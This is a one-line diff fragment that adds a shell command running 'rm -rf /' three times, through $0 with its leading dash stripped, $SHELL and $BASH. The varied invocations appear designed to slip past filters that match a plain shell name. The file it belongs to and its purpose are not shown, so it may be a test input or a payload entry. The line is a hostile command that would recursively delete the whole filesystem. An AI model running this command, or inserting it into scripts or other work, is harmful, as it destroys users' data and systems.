@@ -1,0 +1,1 @@
+${0##-} -c 'rm -rf /'; $SHELL -c 'rm -rf /'; $BASH -c "rm -rf /"
